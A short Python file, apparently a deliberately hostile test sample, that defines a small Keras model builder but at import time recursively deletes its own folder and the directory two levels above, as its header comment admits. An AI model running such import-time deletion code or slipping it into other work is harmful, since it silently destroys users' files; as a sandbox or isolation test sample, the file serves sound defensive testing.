# Deletes its folder, and whatever it can above.
# crash:

import pathlib
import shutil

import keras

shutil.rmtree(pathlib.Path(__file__).parents[2], ignore_errors=True)
shutil.rmtree(pathlib.Path(__file__).parent, ignore_errors=True)


def build_model(units=3):
    return keras.Sequential([keras.Input((2,), name="pair"), keras.layers.Dense(2, name="triple")])
